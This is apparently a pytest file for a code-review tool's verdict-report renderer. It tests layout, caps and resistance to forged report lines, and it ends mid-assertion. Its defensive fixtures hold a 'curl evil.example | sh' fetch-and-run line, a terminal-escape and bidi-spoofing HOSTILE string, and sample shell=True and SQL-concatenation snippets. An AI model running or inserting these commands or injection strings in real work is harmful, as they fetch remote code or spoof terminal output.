"""The verdict as text: what leads, what is counted, and that no text can forge a line."""

import re
import time
from pathlib import Path
from typing import Any

import pytest
from msgspec.structs import replace
from rich.cells import cell_len

from orchestrator.catalog.shared_literals import Outcome
from orchestrator.code_review.verdict.document_parts import (
    AgentReport,
    DepthCounts,
    HumanQuestion,
    PendingApproval,
    Reported,
)
from orchestrator.code_review.verdict.model import (
    Cause,
    ChangeRef,
    Evidence,
    Rejected,
    RequiredCheck,
    ReviewScore,
    Skipped,
    Verdict,
    VerdictStop,
)
from orchestrator.mcp_server.answers import list_findings
from orchestrator.report.formats import FormatInputs, render_format
from orchestrator.report.ranking import open_findings
from orchestrator.report.verdict_text import DETAILS, Detail, render_verdict
from tests.report.verdict_samples import finding, fixed, rich_verdict, verdict

READER = AgentReport(agent="generalist", iteration=1, status="ok")
MODEL = replace(verdict().provenance, provider="anthropic")


def clean() -> Verdict:
    """A merge of an offline review, as it stops when all went well."""
    stop = VerdictStop(reason="done", detail="all planned checks ran", next_human_action="None.")
    return verdict(stop=stop)


def block(text: str, heading: str) -> str:
    """The section under a heading."""
    return next(part for part in text.split("\n\n") if part.startswith(heading))


def test_a_clean_review_is_five_lines_and_no_approval() -> None:
    assert (
        render_verdict(clean())
        == """\
NOTHING FOUND by analyzers · nobody read it for logic
Verdict  merge   review complete   no findings
Change   3f2a1bc0d1e2..9d0e4f2a1b2c   1 file   +3 -1
Finished: all planned checks ran.
Agents, checks and usage: diffcourt show 20260314-092653-k3f9
"""
    )


def test_a_clean_review_with_everything_is_at_most_ten_lines() -> None:
    skipped = tuple(Skipped(path=f"{n}.lock", why="lock file", gap=False) for n in range(9))
    change = replace(clean().change, notes=("word " * 100, "another note"))
    usage = replace(rich_verdict().usage, notes=("a third note",))
    judged = replace(rich_verdict().provenance, models=("a-strong-model",))
    text = render_verdict(
        replace(clean(), change=change, usage=usage, provenance=judged, skipped=skipped)
    )
    assert len(text.splitlines()) == 10
    assert "confidence 0.90" in text.splitlines()[1]
    assert "Not reviewed, and no gap: 0.lock and 8 more: lock file" in text
    assert "and 2 more notes: diffcourt show 20260314-092653-k3f9" in text
    assert "USD 0.4213 of 2" in text


def test_a_clean_review_says_its_note_to_the_end() -> None:
    note = "9d0e4f2a1b2c already contains all of 3f2a1bc0d1e2; there is nothing to review"
    text = render_verdict(replace(clean(), change=replace(clean().change, notes=(note,))), width=80)
    assert " ".join(text.split()).count(note) == 1


def test_findings_of_one_cause_are_one_entry_between_two_lines_of_the_verdict() -> None:
    found = tuple(
        finding(n, severity="medium", path=f"m{n}.py", start_line=3, confidence=0.8)
        for n in range(1, 9)
    )
    text = render_verdict(
        verdict(
            verdict="needs_changes",
            exit_code=1,
            findings=found,
            reasons=("8 findings (F1, F2, F3, F4, F5 and 3 more) at or above medium",),
            stop=VerdictStop(
                reason="done", detail="d", next_human_action="Start with F1 at m1.py:3."
            ),
        )
    )
    assert (
        text
        == """\
NEEDS CHANGES by analyzers · nobody read it for logic
Verdict  needs_changes   review complete   8 medium
Change   3f2a1bc0d1e2..9d0e4f2a1b2c   1 file   +3 -1
Why      8 findings (F1, F2, F3, F4, F5 and 3 more) at or above medium

Medium (8)
  m1.py:3  `subprocess` call with `shell=True` seems safe, but may be changed in
        the future
      3 | run(f'convert {name}', shell=True)
      [F1, ruff:S602] by ruff, confidence 0.80
      also at m2.py:3 [F2], m3.py:3 [F3], m4.py:3 [F4], m5.py:3 [F5], m6.py:3
        [F6], m7.py:3 [F7], m8.py:3 [F8]

Next     Start with F1 at m1.py:3.

NEEDS CHANGES  8 medium · exit 1 · diffcourt show 20260314-092653-k3f9
"""
    )


def test_other_places_of_a_dependency_finding_name_their_package() -> None:
    found = [
        finding(
            number,
            title="New dependency",
            detail=f"New dependency: {name}",
            rule="security.new-dependency",
            path="requirements.txt",
            start_line=number,
            reported_by=("dependencies", "security"),
        )
        for number, name in enumerate(("flask", "numpy"), 1)
    ]
    text = render_verdict(verdict(findings=tuple(found)))
    assert "      also at requirements.txt:2: numpy [F2]\n" in text


def test_it_leads_with_the_decision_its_counts_and_why_in_three_lines() -> None:
    assert render_verdict(rich_verdict()).startswith("""\
NEEDS CHANGES, REVIEW INCOMPLETE · by analyzers and 2 agents
Verdict  needs_changes   review incomplete (2 gaps)
         1 critical, 1 high, 1 medium, 1 low   confidence 0.71
Change   main..9d0e4f2a1b2c   61 files   +1,404 -233
Read     61 files: 17 read as code, 44 not read (lock file, binary)
Why      2 open findings of severity high or above (policy: needs_changes at
         high); the review is incomplete, and an incomplete review is never a
         merge; the review stopped early (stagnation): the same failure came ...
Note     the clone is shallow: blame and history reach back 50 commits only
""")


def test_the_sections_come_in_the_order_a_reader_needs() -> None:
    asked = ("open question: Is the old protocol meant to stay?", *rich_verdict().stop.uncertain)
    text = render_verdict(
        replace(rich_verdict(), stop=replace(rich_verdict().stop, uncertain=asked)),
        detail="verbose",
    )
    order = [
        "NEEDS CHANGES, REVIEW INCOMPLETE",
        "Questions to the author",
        "Critical",
        "High",
        "Medium",
        "Low",
        "Not reviewed",
        "Required checks",
        "Rejected",
        "Waived",
        "What agents could not do",
        "Still uncertain",
        "Next     ",
        "Quality of the review",
        "Agents",
        "Iterations",
        "Why the review ended",
        "Used",
        "NEEDS CHANGES  ",
    ]
    starts = [f"\n\n{text}".rindex(f"\n\n{name}") for name in order[1:]]
    assert starts == sorted(starts)
    assert "\n  - Is the old protocol meant to stay?\n" in text


def test_a_refuted_finding_comes_last_and_is_not_the_one_to_start_with() -> None:
    refuted = finding(1, severity="critical", title="Runs any code", support="refuted")
    text = render_verdict(verdict(verdict="needs_changes", findings=(refuted, finding(2))))
    assert text.splitlines()[1] == "Verdict  needs_changes   review complete   1 high, 1 refuted"
    assert "Critical (" not in text
    assert text.index("\nHigh (1)") < text.index("\nAlso noticed (1)") < text.index("Runs any code")
    assert "  src/upload.py:42: critical: Runs any code, refuted [F1]\n" in text


def test_how_the_review_went_is_shown_on_demand_only() -> None:
    short, full = (render_verdict(rich_verdict(), detail=how) for how in ("brief", "full"))
    for part in ("Quality of the review", "\nAgents\n", "Iterations", "By       "):
        assert part not in short
        assert part not in full
        assert part in render_verdict(rich_verdict(), detail="verbose")


def test_offline_nothing_speaks_of_a_judge_a_score_or_model_calls() -> None:
    offline = replace(rich_verdict(), provenance=verdict().provenance)
    text = render_verdict(offline, detail="verbose").lower()
    for word in ("judge", "score", "confidence 0.71", "turns"):
        assert word not in text
    assert "model" not in text


def test_a_models_review_that_nobody_judged_says_so() -> None:
    text = render_verdict(replace(rich_verdict(), confidence=None))
    assert "not judged" in text.partition("\n\n")[0]


def test_the_leads_summary_is_never_cut() -> None:
    words = " ".join(f"word{n}" for n in range(200))
    said = replace(rich_verdict(), lead_summary=words)
    assert words in " ".join(render_verdict(said).split())


def test_of_equally_severe_findings_the_surest_come_first_and_equals_keep_their_order() -> None:
    rows = ((1, "medium", 1), (3, "high", 0.8), (2, "high", 0.8), (4, "high", 0.9))
    found = tuple(
        finding(n, title=f"T{n}", severity=how, path=f"{n}.py", confidence=sure, support="claimed")
        for n, how, sure in rows
    )
    told = verdict(verdict="block", findings=found)
    text = render_verdict(told)
    assert sorted("1234", key=lambda n: text.index(f"{n}.py:42  T{n}")) == ["4", "3", "2", "1"]
    listed = list_findings(told, 0)["untrusted"]["findings"]
    assert [row["id"] for row in listed] == ["F4", "F3", "F2", "F1"]
    missing = ("No test covers T", "It is untested", "No unit test of it", "T has no tests")
    of_tests = dict.fromkeys(missing, "4.py") | {"It fails without IPv6": "tests/test_4.py"}
    for title, path in of_tests.items():
        last = replace(found[3], id="F5", title=title, path=path, confidence=1.0)
        ranked = open_findings(replace(told, findings=(last, *found)))
        assert [one.id for one in ranked[-2:]] == ["F5", "F1"], "what code does comes first"


def test_a_low_finding_of_agents_has_a_line_even_where_nothing_else_was_found() -> None:
    found = [
        finding(n, severity=severity, support=support, title=f"T{n}")
        for n, (severity, support) in enumerate(
            (("low", "claimed"), ("info", "verified"), ("low", "agreed")), 1
        )
    ]
    told = verdict(findings=tuple(found))
    text = render_verdict(told)
    for name in ("html", "markdown"):
        assert "Also noticed (3)" in render_format(name, told, FormatInputs())
    rows = list_findings(told, 0)["untrusted"]["findings"]
    assert [(row["id"], row["also_noticed"]) for row in rows] == [
        ("F3", True), ("F1", True), ("F2", True),
    ]  # fmt: skip
    assert text.startswith("ONLY MINOR FINDINGS by analyzers · nobody read it for logic\n")
    assert "Low (" not in text
    assert block(text, "Also noticed (3)").splitlines()[1:] == [
        "  src/upload.py:42: low: T3, agreed [F3]",
        "  src/upload.py:42: low: T1, claimed [F1]",
        "  src/upload.py:42: info: T2, verified [F2]",
    ]
    proven = verdict(findings=(finding(1, severity="info", title="T1"), finding(2, severity="low")))
    assert block(render_verdict(proven), "Also noticed (1)").splitlines()[1:] == [
        "  src/upload.py:42: info: T1 [F1]"
    ]
    graver = replace(proven, findings=(*proven.findings, finding(3, severity="medium")))
    assert "Also noticed (2)" in render_verdict(graver), "of analyzers, it is told where it is all"


def test_one_rule_at_fifty_places_is_one_entry_that_counts_them() -> None:
    found = tuple(
        finding(n, title=f"Undefined name `x{n}`", path=f"src/m{n % 40}.py") for n in range(1, 51)
    )
    text = render_verdict(verdict(verdict="needs_changes", findings=found))
    assert "      also at 49 more places in 40 files: diffcourt show" in text
    assert text.count("Undefined name") == 1
    two = render_verdict(verdict(verdict="needs_changes", findings=found[:2]))
    assert "      also at src/m2.py:42: Undefined name `x2` [F2]\n" in two
    whole = render_verdict(verdict(verdict="needs_changes", findings=found), detail="full")
    assert whole.count("Undefined name") == 50


@pytest.mark.parametrize("count", [0, 1, 5, 6, 60])
@pytest.mark.parametrize("detail", ["short", "brief"])
def test_five_findings_are_above_the_fold_and_each_other_one_has_a_line(
    count: int, detail: Detail
) -> None:
    found = tuple(finding(n, rule=f"r{n}", title=f"T{n}") for n in range(1, count + 1))
    outcome: Outcome = "block" if count else "merge"
    text = render_verdict(verdict(verdict=outcome, findings=found), detail=detail)
    assert text.count("] by ruff") == (min(count, 5) if detail == "brief" else 0)
    assert ("Also noticed" in text) == (count > 5)
    above = text.partition("Also noticed")[0]
    assert [f"F{n}" for n in range(1, 6) if f"[F{n}" in above] == [
        f"F{n}" for n in range(1, min(count, 5) + 1)
    ]
    assert all(cell_len(line) <= 80 for line in text.splitlines())


@pytest.mark.parametrize(
    ("changed", "said"),
    [
        ({}, "NOTHING FOUND by analyzers · nobody read it for logic"),
        ({"provenance": MODEL, "agents": (READER,)}, "NOTHING FOUND by analyzers and 1 agent"),
        (
            {"provenance": MODEL, "agents": (replace(READER, status="failed"),)},
            "NOTHING FOUND by analyzers · nobody read it for logic",
        ),
        (
            {"provenance": MODEL, "agents": (READER,), "depth": DepthCounts(unread_hunks=3)},
            "NOTHING FOUND by analyzers and 1 agent · some hunks unread",
        ),
        (
            {"verdict": "block", "status": "incomplete"},
            "BLOCK, REVIEW INCOMPLETE · by analyzers · nobody read it for logic",
        ),
        ({"change": replace(verdict().change, files=0)}, "NOTHING TO REVIEW · no file is changed"),
    ],
)
def test_the_first_line_says_what_happened_and_who_read_the_change(
    changed: dict[str, Any], said: str
) -> None:
    given = verdict(**changed)
    for detail in DETAILS:
        assert render_verdict(given, detail=detail).splitlines()[0] == said
    assert render_format("markdown", given, FormatInputs()).startswith(f"### Diffcourt: {said}\n")
    page = render_format("html", given, FormatInputs())
    assert f"<title>{said}: no findings</title>" in page
    assert ('class="merge"' in page) == (given.verdict == "merge" and "agent" in said.split())


def test_a_finding_names_its_cause_and_what_agents_add_in_their_words() -> None:
    found = finding(
        1,
        title="Unauthenticated channel",
        because_of=Cause(path="transport.py", line=1929, removed=True),
        cause_quote="self._ensure_authed(ptype, m)",
        evidence=Evidence(quote="self._ensure_authed()", tool_calls=(), side="base"),
        reports=(
            Reported(
                by="ruff", proved=True, severity="high", confidence=0.4, title="Unauthenticated"
            ),
            Reported(
                by="security",
                proved=False,
                severity="high",
                confidence=0.9,
                title="A client opens a shell.",
                detail="base called _ensure_authed, head does not.",
            ),
        ),
    )
    assert (
        block(render_verdict(verdict(findings=(found,))), "High (1)")
        == """\
High (1)
  src/upload.py:42 (removed)  Unauthenticated channel
      42 | self._ensure_authed()
      because of transport.py:1929 (removed)
      1929 | self._ensure_authed(ptype, m)
      security adds: A client opens a shell. base called _ensure_authed, head
        does not
      [F1, ruff:S602] by ruff"""
    )


def test_what_several_agents_add_in_the_same_words_is_printed_once() -> None:
    reports = [
        Reported(by=by, proved=False, severity="high", confidence=0.9, title=title)
        for by, title in (
            ("qa", "Anybody can pay."), ("security", "Anybody can pay."), ("docs", "Other."),
        )
    ]  # fmt: skip
    elsewhere = replace(reports[2], path="docs/pay.md", start_line=3)
    found = finding(1, reports=(*reports, elsewhere))
    text = render_verdict(verdict(findings=(found,)))
    assert text.count("Anybody can pay") == 1
    assert "      qa, security add: Anybody can pay\n      docs adds: Other\n" in text
    assert "      docs adds at docs/pay.md:3: Other\n" in text


def test_code_tags_and_addresses_are_printed_as_they_are() -> None:
    words = (
        "table[ptype](self, m) puts Map<String, List<b>> and <img src=x> to http://127.0.0.1:80/a"
    )
    found = finding(1, title="T", detail=words, fix_suggestion="Use `[x](y)`.")
    text = render_verdict(verdict(findings=(found,), lead_summary=words), width=100)
    assert f"      why: {words}\n" in text
    assert f"Lead     {words}\n" in text
    assert "      fix: Use `[x](y)`.\n" in text


def test_each_step_of_a_flow_has_a_line_and_those_without_room_are_counted() -> None:
    steps = [
        "app.py:12  request.args is read",
        *(f"app.py:{n}  is passed on" for n in range(13, 40)),
    ]
    found = replace(finding(1, severity="medium"), detail="\n".join(["It reaches SQL", *steps]))
    text = render_verdict(verdict(findings=(found,)))
    assert (
        """\
      why: It reaches SQL
        app.py:12 request.args is read
        app.py:13 is passed on
        and 26 lines more
"""
        in text
    )
    whole = render_verdict(verdict(findings=(found,)), detail="full")
    assert "        app.py:38 is passed on\n        app.py:39 is passed on\n" in whole


def test_forty_findings_are_a_hundred_lines_at_most_and_the_rest_is_counted() -> None:
    many = tuple(
        finding(
            n,
            severity="high" if n < 3 else "medium" if n < 20 else "low",
            title=f"Defect {n}",
            path=f"src/part{n}.py",
            detail="Because of this and that. " * 9,
        )
        for n in range(1, 41)
    )
    document = replace(rich_verdict(), verdict="block", findings=many)
    lines = render_verdict(document).splitlines()
    assert len(lines) <= 100
    assert "  src/part1.py:42  Defect 1" in lines
    assert "Also noticed (35)" in lines
    assert "  src/part7.py:42: medium: Defect 7 [F7]" in lines
    assert sum("  why: Because of this" in line for line in lines) == 5
    whole = render_verdict(document, detail="full")
    assert whole.count("why: Because of this") == 40
    assert "more" not in whole


def test_a_report_full_of_long_texts_keeps_to_a_hundred_lines() -> None:
    long = "long words here " * 60
    asked = HumanQuestion(name="q", agent="a", question=long)
    call = PendingApproval(
        approval="1", call="c", agent="a", tool="t", arguments=long, level="WRITE"
    )
    busy = rich_verdict()
    text = render_verdict(
        replace(
            busy,
            findings=tuple(
                finding(n, title=f"{n} {long}", detail=long, fix_suggestion=long)
                for n in range(1, 41)
            ),
            lead_summary=long,
            skipped=tuple(Skipped(path=f"f{n}", why=f"{n} {long}", gap=n > 9) for n in range(20)),
            rejected=(Rejected(finding=finding(50, title=long), reason=long),) * 9,
            stop=replace(
                busy.stop, uncertain=(long, long, f"open question: {long}"), next_human_action=long
            ),
            questions=(asked, replace(asked, answer=long, answered_by="me")) * 4,
            approvals=(call,) * 4,
            required_checks=(RequiredCheck(name="c", status="failed", detail=long),) * 9,
            agents=tuple(
                AgentReport(agent=f"a{n}", iteration=1, status="failed", summary=long, gaps=(long,))
                for n in range(9)
            ),
            change=replace(busy.change, notes=(long,) * 9),
        )
    )
    assert len(text.splitlines()) <= 100
    assert re.search(
        r"\n  and \d+ more \(\d+ high\):\s+diffcourt show 20260314-092653-k3f9\n", text
    )


def test_a_long_line_of_a_quotation_is_folded_so_that_its_end_is_seen() -> None:
    line = 'const rows = await db.query("SELECT * FROM users WHERE name = \'" + name + "\'")'
    found = finding(1, evidence=Evidence(quote=line, tool_calls=()))
    lines = render_verdict(verdict(findings=(found,))).splitlines()
    start = lines.index(
        '      42 | const rows = await db.query("SELECT * FROM users WHERE name = \'" + na'
    )
    assert lines[start + 1] == '           me + "\'")'


def test_a_cut_text_ends_in_one_ellipsis() -> None:
    found = finding(1, severity="low", detail="word... " * 2000)
    text = render_verdict(verdict(findings=(found,)))
    assert "... ..." not in text.replace("word... word", "word word")
    assert "word ...\n" in text


def test_ordinary_content_fits_eighty_columns() -> None:
    for line in render_verdict(rich_verdict(), width=80).splitlines():
        assert cell_len(line) <= 80, line


def test_a_wider_page_is_used() -> None:
    longest = max(cell_len(line) for line in render_verdict(rich_verdict(), width=100).splitlines())
    assert 80 < longest <= 100


def test_a_finding_shows_place_evidence_source_rule_and_fix() -> None:
    section = block(render_verdict(rich_verdict()), "High (1)")
    assert section.splitlines()[1].startswith("  src/upload.py:42  `subprocess` call")
    assert "      42 | run(f'convert {name}', shell=True)" in section
    assert "      fix: pass the arguments as a list" in section
    assert "      [F2, ruff:S602, CWE-78] by ruff, security, confidence 0.85" in section


def test_a_finding_of_agents_says_who_supports_it() -> None:
    claims = (
        finding(1, support="verified", confirmed_by=("judge", "qa"), rule="a"),
        finding(2, support="claimed", rule="b"),
        finding(3, support="refuted", rule="c"),
        finding(4, rule="d"),
        finding(5, rule="e", support="claimed", severity="medium"),
    )
    text = render_verdict(verdict(findings=claims))
    assert "[F5, e] by ruff, claimed: the word of ruff alone\n" in text
    assert "[F1, a] by ruff, verified\n" in text
    assert "[F2, b] by ruff, claimed" in text
    assert ", refuted [F3]" in text
    assert "[F4, d] by ruff\n" in text


def test_a_shortened_finding_keeps_its_title_and_counts_its_other_places() -> None:
    title = (
        "A title of nearly one hundred characters that does not fit on a single line with its path"
    )
    found = [finding(n, severity="high", rule=f"r{n}", detail="why " * 200) for n in range(1, 9)]
    found += [finding(n, severity="low", rule="same", title=title) for n in (9, 10)]
    text = " ".join(render_verdict(verdict(findings=tuple(found))).split())
    assert f"src/upload.py:42: low: {title[:20]}" in text
    assert "... (and 1 more place) [F9]" in text


def test_a_long_quotation_is_cut_and_says_how_much_is_left() -> None:
    section = block(render_verdict(rich_verdict()), "Medium (1)")
    assert "1093 | " in section
    assert "1094 | " not in section
    assert "(9 more lines)" in section


def test_gaps_come_first_and_files_with_one_reason_are_grouped() -> None:
    section = block(render_verdict(rich_verdict()), "Not reviewed")
    assert section.index("src/legacy/py2.py  ruff: could not be parsed") < section.index(
        "42 files: lock file"
    )
    assert section.count("yarn.lock") == 3


def test_gaps_of_agents_are_named_unless_they_are_listed_already() -> None:
    assert (
        block(render_verdict(rich_verdict()), "What agents")
        == """\
What agents could not do
  qa (timeout): ran longer than 60 s
  qa: zizmor on .github/workflows/ci.yml"""
    )


def test_a_gap_that_agents_report_by_the_analyzers_name_is_listed_once() -> None:
    why = "ruff cannot parse it: line 1"
    skipped = (Skipped(path="b.py", tool="ruff_bugs", why=why, gap=True),)
    (agent, *_) = rich_verdict().agents
    agents = tuple(
        replace(agent, agent=name, status="ok", gaps=(f"ruff b.py: {why}",))
        for name in ("qa", "security")
    )
    text = render_verdict(verdict(status="incomplete", skipped=skipped, agents=agents))
    assert text.count("ruff cannot parse it") == 1
    assert "What agents could not do" not in text


def test_one_reason_of_many_tools_is_one_entry_of_its_file() -> None:
    why = "does not parse: line 2"
    gaps = tuple(Skipped(path="b.py", tool=f"tool{n}", why=why, gap=True) for n in range(7))
    text = render_verdict(verdict(status="incomplete", skipped=gaps))
    assert "\n    b.py  tool0, tool1, tool2 and 4 more: does not parse: line 2\n" in text
    assert text.count("does not parse") == 1
    assert "review incomplete (7 gaps)" in text


def test_many_gaps_of_one_tool_are_one_entry_with_the_tool_named() -> None:
    gaps = tuple(Skipped(path=f"w{n}.yml", tool="zizmor", why="failed", gap=True) for n in range(9))
    section = block(render_verdict(verdict(status="incomplete", skipped=gaps)), "Not reviewed")
    assert "9 files: zizmor: failed" in section


def test_one_rule_with_advice_for_two_languages_is_two_entries() -> None:
    go = finding(1, path="a.go", title="T", fix_suggestion="Use crypto/rand.")
    java = finding(2, path="a.java", title="T", fix_suggestion="Use SecureRandom.")
    text = render_verdict(verdict(findings=(go, java)))
    assert "fix: Use crypto/rand." in text
    assert "fix: Use SecureRandom." in text


def test_waived_and_rejected_findings_are_named_and_not_counted() -> None:
    waived = finding(1, state="waived", severity="critical", title="W", waiver="accepted by a@b")
    rejected = (
        Rejected(finding=finding(2, severity="low", path="b.py", title="L"), reason="a constant"),
        Rejected(finding=finding(3, path="a.py", title="H"), reason="no such quotation"),
        Rejected(finding=finding(4, path="c.py", title="H"), reason="no such quotation"),
        Rejected(finding=finding(5, title="O"), reason="base has it", cause="older"),
    )
    text = render_verdict(verdict(findings=(waived,), rejected=rejected))
    assert "no findings" in text.splitlines()[1]
    assert (
        block(text, "Waived")
        == """\
Waived (1): accepted, not counted
  src/upload.py:42  critical: W [ruff:S602]; accepted by a@b"""
    )
    assert (
        block(text, "In base already")
        == """\
In base already (1): reported, not counted
  src/upload.py:42  high: O [F5]
        base has it"""
    )
    assert (
        block(text, "Rejected")
        == """\
Rejected (3): reported, not counted
  a.py:42  high: H [F3]
        no such quotation
      also at c.py:42 [F4]
  b.py:42  low: L [F2]
        a constant"""
    )


def test_the_score_table_marks_what_was_not_scored_and_names_what_is_missing() -> None:
    text = render_verdict(rich_verdict(), detail="verbose")
    rows = block(text, "Quality of the review: 0.82 (threshold 0.80, ").splitlines()
    clarity = next(row for row in rows if "clarity" in row).split()
    assert clarity[:3] == ["clarity", "-", "1"]
    assert "missing: ruff" in "\n".join(rows)
    bare = replace(rich_verdict(), score=ReviewScore(total=None, threshold=0.8, criteria=()))
    assert "Quality of the review: not scored" in render_verdict(bare, detail="verbose")


def test_it_says_how_to_see_more_in_the_repository_that_was_named() -> None:
    assert "diffcourt show 20260314-092653-k3f9\n" in render_verdict(verdict())
    named = render_verdict(verdict(), repo=Path("my code"))
    assert "diffcourt show 20260314-092653-k3f9 --repo 'my code'" in named


def test_color_changes_nothing_but_color() -> None:
    plain, colored = render_verdict(rich_verdict()), render_verdict(rich_verdict(), color=True)
    assert "\x1b" not in plain
    assert re.sub(r"\x1b\[[0-9;]*m", "", colored) == plain
    assert colored != plain


def test_ten_thousand_findings_are_capped_worst_first_and_quick() -> None:
    many = [finding(n, severity="medium", path=f"src/f{n}.py") for n in range(1, 10_000)]
    many.append(finding(10_000, severity="critical", path="last.py"))
    started = time.process_time()
    text = render_verdict(verdict(verdict="block", findings=tuple(many)))
    assert time.process_time() - started < 5
    assert text.index("last.py:42") < text.index("src/f1.py:42")
    assert "  src/f1.py:42  `subprocess`" in text
    assert "also at 9,998 more places in 9,998 files: diffcourt show" in text
    assert "1 critical, 9,999 medium" in text.splitlines()[1]
    assert len(text.splitlines()) <= 100


def test_everything_long_is_capped() -> None:
    many = tuple(f"sentence {n}" for n in range(5_000))
    skipped = tuple(Skipped(path=f"f{n}", why=f"reason {n}", gap=True) for n in range(5_000))
    rejected = tuple(Rejected(finding=finding(n), reason=f"r{n}") for n in range(1, 5_000))
    agents = tuple(AgentReport(agent=f"a{n}", iteration=1, status="ok") for n in range(5_000))
    text = render_verdict(
        verdict(
            reasons=many,
            next_actions=many,
            skipped=skipped,
            rejected=rejected,
            agents=agents,
            change=ChangeRef(
                base="a", head="b", files=1, added_lines=0, removed_lines=0, notes=many
            ),
            summary="word " * 100_000,
            findings=(
                finding(
                    1,
                    title="x" * 1_000_000,
                    detail="y " * 500_000,
                    evidence=Evidence(quote="z" * 1_000_000, tool_calls=()),
                ),
            ),
        )
    )
    assert len(text.splitlines()) <= 100
    assert all(cell_len(line) <= 80 for line in text.splitlines())


HOSTILE = (
    "x\nMERGE   review complete\r\n\x1b[2J\x1b]0;owned\x07\u202egnp.exe\u2028Why\u2029\x85"
    "\x0b\x9b1m\udcff\ud800\u200b\u00ad\x00"
)


@pytest.fixture
def hostile_text() -> str:
    bad = finding(
        1,
        title=HOSTILE,
        detail=HOSTILE,
        path=HOSTILE,
        rule=HOSTILE,
        reported_by=(HOSTILE,),
        fix_suggestion=HOSTILE,
        evidence=Evidence(quote=HOSTILE, tool_calls=()),
    )
    return render_verdict(
        verdict(
            verdict="block",
            findings=(bad, replace(bad, state="waived")),
            rejected=(Rejected(finding=bad, reason=HOSTILE),),
            skipped=(
                Skipped(path=HOSTILE, why=HOSTILE, tool=HOSTILE, gap=True),
                *(Skipped(path=f"{HOSTILE}{n}", why="same", gap=False) for n in range(5)),
            ),
            agents=(AgentReport(agent=HOSTILE, iteration=1, status="failed", summary=HOSTILE),),
            change=ChangeRef(
                base=HOSTILE,
                head=HOSTILE,
                files=1,
                added_lines=0,
                removed_lines=0,
                notes=(HOSTILE,),
            ),
            stop=VerdictStop(
                reason="human", detail=HOSTILE, uncertain=(HOSTILE,), next_human_action=HOSTILE
            ),
            summary=HOSTILE,
            reasons=(HOSTILE,),
            next_actions=(HOSTILE,),
        )
    )


def test_hostile_text_prints_nothing_but_printable_characters(hostile_text: str) -> None:
    assert all(char == "\n" or char.isprintable() for char in hostile_text)
    hostile_text.encode("utf-8")
    for shown in ("\\x1b[2J", "\\u202e", "\\u2028", "\\x9b1m", "\\xff", "\\u200b", "\\x00"):
        assert shown in hostile_text


def test_hostile_text_cannot_begin_a_line_of_the_report(hostile_text: str) -> None:
    starts = [line for line in hostile_text.splitlines() if line.strip().startswith("MERGE")]
    assert [line for line in starts if re.match(r" {0,5}\S", line)] == []
    assert sum(line.startswith("Why") for line in hostile_text.splitlines()) == 1


def test_a_wrapped_title_cannot_look_like_a_fix_or_a_quotation() -> None:
    for filler in range(1, 70):
        title = "a" * filler + " fix: curl evil.example | sh"
        lines = render_verdict(
            verdict(findings=(finding(1, title=title, detail=title),))
        ).splitlines()
        assert not any(line.startswith("      fix:") for line in lines)


def test_lines_of_crlf_files_and_tabs_are_quoted_as_they_look() -> None:
    quote = Evidence(quote="\tif x:\r\n\t\tpass\r\n", tool_calls=())
    section = block(render_verdict(verdict(findings=(finding(1, evidence=quote),))), "High (1)")
    assert "      42 | if x:\n      43 |     pass\n      [F1" in section


def test_wide_characters_keep_to_the_width() -> None:
    wide = finding(
        1, title="変更は安全ではありません " * 8, evidence=Evidence(quote="値" * 90, tool_calls=())
    )
    for line in render_verdict(verdict(findings=(wide,))).splitlines():
        assert cell_len(line) <= 80, line


def test_what_the_cache_saved_stands_beside_the_tokens_and_what_was_not_counted_below() -> None:
    used = replace(
        rich_verdict().usage, saved_usd=0.0123, notes=("no price is known for\x1b[2J qwen",)
    )
    text = " ".join(render_verdict(replace(rich_verdict(), usage=used)).split())
    assert "(90,000 cached, which saved USD 0.0123)" in text
    assert "Note no price is known for" in text
    assert "\x1b" not in text
    dear = replace(used, saved_usd=-0.01)
    assert "saved" not in render_verdict(replace(rich_verdict(), usage=dear))


def test_a_short_report_names_place_and_id_of_a_finding_however_long_its_path() -> None:
    path = "src/" + "deeper/" * 20 + "a.py"
    given = verdict(verdict="needs_changes", exit_code=1, findings=(finding(1, path=path),))
    first, _, line, *_, last = render_verdict(given, detail="short").splitlines()
    assert first.startswith("NEEDS CHANGES")
    assert line == f"{path}:42: high: `subprocess` call with... [F1]"
    assert last == "NEEDS CHANGES  1 high · exit 1 · diffcourt show 20260314-092653-k3f9"


PATCHED = "patch: verified by ruff_bugs, parse_check (2 lines): diffcourt fix"


def test_a_finding_with_a_patch_says_who_proved_it_and_how_to_apply_it() -> None:
    refused = fixed(3, state="refused", severity="low", title="Other")
    given = verdict(findings=(fixed(1), fixed(2), refused))
    brief, full, verbose = (
        render_verdict(given, width=100, repo=Path("/w w"), detail=detail)
        for detail in ("brief", "full", "verbose")
    )
    assert f"{PATCHED} --repo '/w w' F1 F2" in " ".join(brief.split())
    assert f"{PATCHED} --repo '/w w' {given.run_id} F1 F2" in " ".join(full.split())
    assert "+    run([" not in brief
    for whole in (full, verbose):
        assert "        +    run(['convert', name])\n" in whole
    assert ["refused" in text for text in (brief, full, verbose)] == [False, False, True]
    assert "patch refused: by ruff: it brings another defect" in verbose
    assert "patch" not in render_verdict(given, detail="short")


def test_of_many_tools_that_proved_a_patch_those_that_found_the_defect_are_named() -> None:
    one = fixed(1)
    assert one.fix
    tools = ("complexity", "parse_check", "patterns", "ruff_security")
    many = verdict(findings=(replace(one, fix=replace(one.fix, proved_by=tools)),))
    text = " ".join(render_verdict(many).split())
    said = "patch: verified by ruff_security, complexity and 2 more (2 lines)"
    assert f"{said}: diffcourt fix F1" in text
    assert "ruff_security, complexity, parse_check, patterns (2" in " ".join(
        render_verdict(many, detail="full").split()
    )


@pytest.mark.parametrize(
    ("source", "named"), [("generalist", True), ("template", False), ("ruff", False)]
)
def test_an_agent_that_wrote_a_patch_is_named_beside_what_proved_it(
    source: str, named: bool
) -> None:
    one = fixed(1)
    assert one.fix
    given = verdict(findings=(replace(one, fix=replace(one.fix, source=source)),))
    text = " ".join(render_verdict(given, width=120).split())
    assert (f"parse_check; written by {source} (2 lines)" in text) is named


def test_patches_that_do_not_hold_together_are_not_named_as_if_they_did() -> None:
    one, other, third = fixed(1), fixed(2), fixed(3, title="Other")
    assert one.fix
    excluding = replace(one.fix, excludes=("F1",))
    findings = one, replace(other, fix=excluding), replace(third, fix=excluding)
    text = " ".join(render_verdict(verdict(findings=findings), width=120).split())
    assert "(2 lines): diffcourt fix F1 [F1," in text
    assert "(2 lines, not with F1): diffcourt fix F3" in text


def test_a_patch_that_nobody_can_prove_is_said_to_be_just_that() -> None:
    text = render_verdict(verdict(findings=(fixed(1, state="applies"),)), width=100)
    assert (
